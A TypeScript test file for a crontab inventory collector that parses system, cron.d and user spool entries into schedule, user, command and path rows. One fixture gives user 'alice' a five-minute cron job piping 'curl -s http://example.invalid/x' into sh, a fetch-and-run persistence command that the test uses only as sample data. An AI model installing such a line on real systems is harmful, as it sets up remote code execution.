import assert from 'node:assert/strict';
import { test } from 'node:test';
import { crontabCollector, parseCronLine } from '../../../src/inventory/collectors/crontab.ts';
import { collectTable, fixtureRoot } from '../fixture-root.ts';

test('system crontab, cron.d and user spool entries appear with schedule, user, command and file', async () => {
  const root = await fixtureRoot({
    '/etc/crontab': 'SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n',
    '/etc/cron.d/backup': '@reboot backup /usr/local/bin/backup.sh --full\n',
    '/etc/cron.d/ignored.dpkg-old': '* * * * * root /bin/true\n',
    '/var/spool/cron/crontabs/alice': '*/5 * * * * curl -s http://example.invalid/x | sh\n',
  });
  const { rows, warnings } = await collectTable(crontabCollector, { root });
  assert.deepEqual(warnings, []);
  assert.deepEqual(rows, [
    { event: '', minute: '17', hour: '*', day_of_month: '*', month: '*', day_of_week: '*', user: 'root', command: 'cd / && run-parts --report /etc/cron.hourly', path: '/etc/crontab' },
    { event: '@reboot', minute: '', hour: '', day_of_month: '', month: '', day_of_week: '', user: 'backup', command: '/usr/local/bin/backup.sh --full', path: '/etc/cron.d/backup' },
    { event: '', minute: '*/5', hour: '*', day_of_month: '*', month: '*', day_of_week: '*', user: 'alice', command: 'curl -s http://example.invalid/x | sh', path: '/var/spool/cron/crontabs/alice' },
  ]);
});

test('a line without a command is warned about, not listed', async () => {
  assert.equal(parseCronLine('* * * * * root', true), undefined);
  const root = await fixtureRoot({ '/etc/crontab': '* * * * *\n' });
  const { rows, warnings } = await collectTable(crontabCollector, { root });
  assert.deepEqual(rows, []);
  assert.match(warnings[0], /\/etc\/crontab: unrecognised cron line/);
});

test('a host without cron has an empty table', async () => {
  assert.deepEqual((await collectTable(crontabCollector, { root: await fixtureRoot({}) })).rows, []);
});
